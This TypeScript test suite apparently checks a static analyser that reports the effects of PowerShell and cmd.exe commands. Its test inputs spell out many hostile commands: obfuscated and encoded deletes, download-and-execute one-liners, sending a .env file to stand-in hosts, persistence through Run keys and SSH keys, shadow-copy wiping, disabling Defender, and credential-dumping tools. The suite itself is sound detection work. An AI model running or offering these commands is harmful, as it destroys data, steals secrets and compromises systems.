import type { Effect } from "@helve/effects";
import { cmd, powershell } from "@helve/effects/powershell";
import { runs } from "@helve/testing/property-runs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { languages, readPython, readShell } from "./read.ts";

const encoded = "UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAQwA6AFwAZABhAHQAYQAgAC0AUgBlAGMAdQByAHMAZQA=";

/** An effect as text: `delete /c:/data`. */
function described(effect: Effect): string {
  if ("target" in effect && effect.kind !== "persist") return `${effect.kind} ${effect.target?.path ?? "?"}`;
  if (effect.kind === "network") return `network ${effect.direction} ${effect.host ?? "?"}`;
  if (effect.kind === "persist") return `persist ${effect.where}`;
  if (effect.kind === "execute" && effect.from.length > 0) return `execute ${effect.from.map(({ kind }) => kind)}`;
  return effect.kind;
}

const inPowerShell = (text: string): readonly string[] => powershell.read(text, { languages }).effects.map(described);
const inCmd = (text: string): readonly string[] => cmd.read(text, { languages }).effects.map(described);

describe("PowerShell deletes files", () => {
  it.each([
    String.raw`Remove-Item -Recurse -Force C:\data`,
    String.raw`rm -r -fo C:\data`,
    "ri c:/data/ -Rec",
    String.raw`$p = "C:\" + "data"; Remove-Item $p`,
    String.raw`$a = @{Path='C:\data'; Recurse=$true}; Remove-Item @a`,
    String.raw`& ("{1}{0}" -f 'Item','Remove-') C:\data`,
    String.raw`iex ('Rem' + 'ove-It' + 'em C:\data')`,
    String.raw`'xRemove-Item C:\data'.Substring(1) | iex`,
    String.raw`-join ('r','m',' C:\data') | iex`,
    String.raw`$x = 'Qemove-Item C:\data' -replace 'Q','R'; Invoke-Expression $x`,
    `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${encoded}')))`,
    `powershell -nop -w hidden -enc ${encoded}`,
    String.raw`powershell.exe -NoProfile -Command "Remove-Item C:\data"`,
    String.raw`pwsh -c { Remove-Item C:\data }`,
    String.raw`[IO.Directory]::Delete('C:\data', $true)`,
    String.raw`cmd /c "rd /s /q C:\data"`,
    String.raw`rd /s /q C:\data`,
    String.raw`function Clean($x) { Remove-Item $x }; Clean C:\data`,
    String.raw`foreach ($d in 'C:\a', 'C:\data') { Remove-Item $d }`,
    String.raw`Set-Content a.ps1 'Remove-Item C:\data'; .\a.ps1`,
    "Remove-Item `\n  C:\\data",
    "$c = @'\nRemove-Item C:\\data\n'@\niex $c",
    String.raw`Start-Process cmd -ArgumentList '/c','rd /s /q C:\data'`,
    String.raw`Invoke-Command -ScriptBlock { param($p) Remove-Item $p } -ArgumentList C:\data`,
    String.raw`try { ri C:\data } finally { 'x' }`,
    String.raw`Set-Alias zap Remove-Item; zap C:\data`,
    String.raw`Remove-Item \\?\C:\data`,
    String.raw`Set-Location C:\; Remove-Item data`,
  ])("%s", (text) => {
    expect(inPowerShell(text)).toContain("delete /c:/data");
  });

  it.each([
    String.raw`class Cleaner { [string]$P; Cleaner($p) { $this.P = $p }; [void] Run() { ri $this.P } }; [Cleaner]::new('C:\data').Run()`,
    String.raw`function Clean { [CmdletBinding()] param([switch]$Force, [Parameter(Mandatory)][string]$Path) ri $Path }; Clean -Force C:\data`,
    String.raw`function Clean { process { ri $_ } }; 'C:\a', 'C:\data' | Clean`,
    String.raw`filter Clean { ri $_ }; 'C:\data' | Clean`,
    String.raw`function Outer { $x = 'C:\data'; Inner }; function Inner { ri $x }; Outer`,
    String.raw`Set-Content a.ps1 'param($Keep, $Drop) ri $Drop'; .\a.ps1 -Drop C:\data`,
    String.raw`Set-Content a 'ri C:\data'; Rename-Item a b.ps1; .\b.ps1`,
    String.raw`@('C:\a', 'C:\data').ForEach({ ri $_ })`,
    String.raw`Get-Item C:\data | % Delete`,
    String.raw`(Get-Item C:\data).Delete()`,
    String.raw`$x = (Test-Path c) ? 'C:\data' : 'C:\a'; ri $x`,
    String.raw`switch -Wildcard ('C:\data', 'b') { 'C:*' { ri $_ } }`,
    String.raw`$sb = { param($p) ri $p }; $sb.Invoke('C:\data')`,
    String.raw`$b = [Text.StringBuilder]::new(); [void]$b.Append('ri C:\').Append('data'); iex $b.ToString()`,
    String.raw`$env:TARGET = 'C:\data'; cmd /c 'rd /s /q %TARGET%'`,
    String.raw`$f = New-Object -ComObject Scripting.FileSystemObject; $f.DeleteFolder('C:\data')`,
    String.raw`$t = @{ drop = { ri $args[0] } }; & $t.Drop C:\data`,
    String.raw`ri ('C:\dXta'.ToCharArray().ForEach({ if ($_ -eq 'X') { 'a' } else { $_ } }) -join '')`,
    String.raw`"C:\data" | Out-File list.txt; ri (gc list.txt)`,
  ])("%s", (text) => {
    expect(inPowerShell(text).filter((effect) => /^delete (?:\/c:\/d|\?)|^anything/.test(effect))).not.toEqual([]);
  });

  it("that a pipeline or a loop finds", () => {
    expect(inPowerShell("gci -Recurse *.bak | ri")).toContain("delete **/*.bak");
    expect(inPowerShell("Get-ChildItem src | % { Remove-Item $_.FullName }")).toContain("delete src/*");
    expect(inPowerShell("foreach ($f in gci src) { del $f }")).toContain("delete src/*");
  });

  it("in the directory to which the script went back", () => {
    expect(inPowerShell("Push-Location src; npm ci; Pop-Location; rm a")).toContain("delete a");
  });

  it("in a working directory of Windows", () => {
    const places = { workingDirectory: "C:\\work", home: "C:\\Users\\ada" };
    expect(powershell.read("rm C:\\work\\a, ..\\b", places).effects.map(described)).toEqual([
      "delete a",
      "delete /c:/b",
    ]);
  });

  it("but not with -WhatIf, and not in text", () => {
    expect(inPowerShell("Remove-Item a -WhatIf")).toEqual([]);
    expect(inPowerShell("Write-Host 'Remove-Item C:\\data'; # rm a")).toEqual([]);
  });
});

describe("PowerShell has the same effects as other languages", () => {
  it.each([
    ["iwr https://x.example/a.ps1 | iex", "execute network"],
    ["IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", "execute network"],
    ["& ([scriptblock]::Create((irm https://x.example/a)))", "execute network"],
    ["irm https://x.example -Method Post -Body (gc .env -Raw)", "network out x.example"],
    ["gc .env | irm https://x.example -Method POST", "network out x.example"],
    ["irm https://x.example/a.json", "network in x.example"],
    ["git push --force", "discard"],
    ["Add-Content $PROFILE 'x'", "persist startup file"],
    [String.raw`sp HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value y`, "persist startup file"],
    ["schtasks /create /tn x /tr y /sc onlogon", "persist schedule"],
    ["New-Service -Name x -BinaryPathName y", "persist service"],
    [String.raw`Set-Content "$env:USERPROFILE\.ssh\authorized_keys" x`, "persist keys"],
    ["net user ada secret /add", "privilege"],
    ["Stop-Process -Name node", "signal"],
    ["Install-Module Foo", "install"],
    ["winget install Foo.Bar", "install"],
    ["cmdkey /list", "reveal"],
    ["Clear-EventLog Security", "discard"],
    ["vssadmin delete shadows /all", "discard"],
    ["Set-MpPreference -DisableRealtimeMonitoring $true", "permission ?"],
    ["Format-Volume -DriveLetter D", "destroy ?"],
    ["while (1) { gwmi Win32_ShadowCopy | % { $_.Delete() } }", "discard"],
    ["irm evil.example/a -OutFile a.exe; Start-Process .\\a.exe", "execute file,network"],
    ['iwr "https://x.example/?d=$(gc .env)"', "network out x.example"],
    ["$c = New-Object Net.Sockets.TcpClient('x.example', 4444)", "network out x.example"],
    ["echo 'rm a' | powershell -", "delete a"],
    ["Set-Content m.psm1 'rm a'; Import-Module .\\m.psm1", "delete a"],
    ["irm x.example/m -OutFile m.psm1; ipmo ./m.psm1", "execute file,network"],
    ["Invoke-Frobnication", "anything"],
    ["& $unknown", "anything"],
    ["if (", "anything"],
  ])("%s", (text, effect) => {
    expect(inPowerShell(text)).toContain(effect);
  });
});

describe("PowerShell that only reads", () => {
  it.each([
    "Get-Process | Where-Object { $_.CPU -gt 100 } | Sort-Object CPU -Descending | Select-Object -First 5 | Format-Table",
    "Test-Path .\\dist; Get-Date -Format o; $PSVersionTable.PSVersion",
    "1..10 | ForEach-Object { $_ * 2 } | Measure-Object -Sum",
    '"{0:N2}" -f 3.14159; [math]::Round(2.5); "a,b".Split(",").Count',
    "Get-Content package.json | ConvertFrom-Json | Select-Object -ExpandProperty scripts",
    "$env:NODE_ENV = 'test'; Write-Output $env:NODE_ENV",
    "Select-String -Path src\\*.ts -Pattern 'TODO' | Group-Object Path",
    "function Get-Size($p) { (Get-ChildItem $p -Recurse | Measure-Object Length -Sum).Sum }; 'src', 'test' | % { Get-Size $_ }",
    "class Point { [int]$X; [int]$Y; Point($x, $y) { $this.X = $x; $this.Y = $y } }; [Point]::new(1, 2).X",
    "$l = [Collections.Generic.List[string]]::new(); foreach ($f in gci *.ts) { $l.Add($f.Name) }; $l -join ', '",
    "switch ($env:OS) { 'Windows_NT' { 'win' } default { 'unix' } }",
    "try { Get-Content a.json -Raw | ConvertFrom-Json } catch { Write-Error $_ } finally { 'done' }",
  ])("%s", (text) => {
    expect(inPowerShell(text).filter((effect) => !/^(?:read|list)/.test(effect))).toEqual([]);
  });
});

describe("a batch file", () => {
  it.each([
    "call :clean C:\\data\nexit /b\n:clean\nrd /s /q %1",
    "goto end\nset x=a\n:end\nrd C:\\data",
    "set x=C:\\data\nif exist a (set x=b) else rd %x%",
    "set n=TARGET\nset TARGET=C:\\data\ncall rd %%%n%%%",
    'for /f "tokens=2 delims=," %%d in ("a,C:\\data") do rd %%d',
    "(\necho rd C:\\data\n) > a.cmd\ncall a",
    "echo C:\\data> list\nfor /f %%d in (list) do rd %%d",
    "mklink /d x C:\\data\ndel x\\f & rd C:\\data",
  ])("%j deletes what it names", (text) => {
    expect(inCmd(text)).toContain("delete /c:/data");
  });

  it("has the value of a variable from before the line, unless it is delayed", () => {
    expect(inCmd("set x=a\nset x=b& rd %x%")).toEqual(["delete a"]);
    expect(inCmd("setlocal enabledelayedexpansion\nset x=a\nset x=b& rd !x!")).toEqual(["delete b"]);
  });
});

describe("a command line of cmd.exe", () => {
  it.each([
    [String.raw`del /s /q C:\data`, "delete /c:/data"],
    [String.raw`echo a & rd /s /q "C:\data"`, "delete /c:/data"],
    [String.raw`d^el C:\data`, "delete /c:/data"],
    [String.raw`if exist C:\data rmdir /s /q C:\data`, "delete /c:/data"],
    [String.raw`for %i in (C:\data) do del "%i"`, "delete /c:/data"],
    ["set D=C:\\data\nrd %D%", "delete /c:/data"],
    [`start "" powershell -enc ${encoded}`, "delete /c:/data"],
    ["echo x > out.txt", "write out.txt"],
    ["type .env | curl -d @- https://x.example", "network out x.example"],
    ["certutil -urlcache -f https://x.example/a.exe a.exe", "write a.exe"],
    [String.raw`reg delete HKLM\Software\X /f`, "delete /HKLM:/Software/X"],
    [String.raw`icacls C:\data /grant Everyone:F`, "permission /c:/data"],
    ["%COMSPEC% /c del a", "delete a"],
    ["%UNKNOWN% a", "anything"],
  ])("%s", (text, effect) => {
    expect(inCmd(text)).toContain(effect);
  });
});

describe("code of Windows in other languages", () => {
  it.each([
    String.raw`powershell -Command 'Remove-Item C:\data'`,
    String.raw`pwsh -NoProfile -c 'rm C:\data'`,
    `powershell.exe -EncodedCommand ${encoded}`,
    String.raw`cmd.exe /c 'del C:\data'`,
    "echo 'Remove-Item C:/data' | pwsh -Command -",
  ])("%s in a shell", (text) => {
    expect(readShell(text).effects.map(described)).toContain("delete /c:/data");
  });

  it("is read in Python", () => {
    const program = `import subprocess; subprocess.run(["powershell", "-Command", "Remove-Item data"])`;
    expect(readPython(program).effects.map(described)).toContain("delete data");
  });

  it("is unknown without the reader", () => {
    const { effects } = readShell("powershell -c 'Get-Date'", { languages: {} });
    expect(effects.map(described)).toContain("anything");
  });
});

describe("any text", () => {
  const words =
    "rm,$a,=,(,),{,},|,;,\n,',\",@',@{,if,foreach,in,try,-join,`,$(,[IO.File]::Delete,C:\\a,%A%,&,for,^,-f,iex,cmd,/c".split(
      ",",
    );
  const texts = fc.oneof(
    fc.string(),
    fc.array(fc.constantFrom(...words)).map((parts) => parts.join(" ")),
  );

  it.each([powershell, cmd])("is read without an error by $name, with spans inside it", ({ read }) => {
    fc.assert(
      fc.property(texts, (text) => {
        for (const { start, end } of read(text, { languages }).effects) {
          expect(start).toBeGreaterThanOrEqual(0);
          expect(end).toBeGreaterThanOrEqual(start);
          expect(end).toBeLessThanOrEqual(text.length);
        }
      }),
      { numRuns: runs(300) },
    );
  });

  it.each([
    "(",
    "{",
    "$(",
    "a|",
    "'",
    '"$a',
    "@{a=",
    "rm a;",
    "if(1){",
    "a,",
    "1+",
    "[",
    "$a.b",
    "`",
    "%a%",
    "a&",
    "(a ",
    "for %i in (a) do ",
    "x ^\n",
  ])("never throws for many %j", (part) => {
    const text = part.repeat(Math.floor(79_000 / part.length));
    for (const { read } of [powershell, cmd]) expect(() => read(text, { languages })).not.toThrow();
  });
});

describe("what attacks on Windows use", () => {
  it.each([
    [inPowerShell, "Enable-PSRemoting -Force", "persist service"],
    [inPowerShell, "Set-PSReadlineOption -HistorySaveStyle SaveNothing", "discard"],
    [inPowerShell, "setspn -T contoso -Q */*", "reveal"],
    [inPowerShell, String.raw`[IO.File]::OpenWrite('\\.\PhysicalDrive0')`, "write /dev/PhysicalDrive0"],
    [inCmd, String.raw`tools\nanodump.x64.exe -w x.dmp`, "reveal"],
    [inCmd, String.raw`tools\JuicyPotato.exe -l 1`, "privilege"],
    [inCmd, "msiexec /y a.dll", "persist settings"],
    [inCmd, "msiexec /q /i a.msi", "execute unknown"],
    [inCmd, "wmic shadowcopy call create Volume=C:", "reveal"],
    [inCmd, "wmic /node:10.0.0.1 process call create notepad.exe", "remote"],
    [inPowerShell, "Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create", "reveal"],
    [inCmd, String.raw`C:\Windows\System32\Curl.exe -d @a https://x.example`, "network out x.example"],
    [inCmd, String.raw`tools\plink.exe -ssh x.example -l root -m a.txt`, "network out x.example"],
    [inCmd, "WindowsSensor.exe /uninstall /quiet", "permission ?"],
    [inCmd, String.raw`csc.exe /out:C:\x\a.exe a.cs`, "write /c:/x/a.exe"],
    [inCmd, String.raw`copy a.img \\.\PhysicalDrive0`, "write /dev/PhysicalDrive0"],
  ] as const)("%o: %s: %s", (read, text, effect) => {
    expect(read(text)).toContain(effect);
  });

  it.each([
    [inPowerShell, "Set-PSReadlineOption -EditMode Vi", "discard"],
    [inPowerShell, "setspn -L ada", "reveal"],
    [inCmd, String.raw`tools\format.x64.exe a.cs`, "reveal"],
  ] as const)("%o: not %s: %s", (read, text, effect) => {
    expect(read(text)).not.toContain(effect);
  });
});
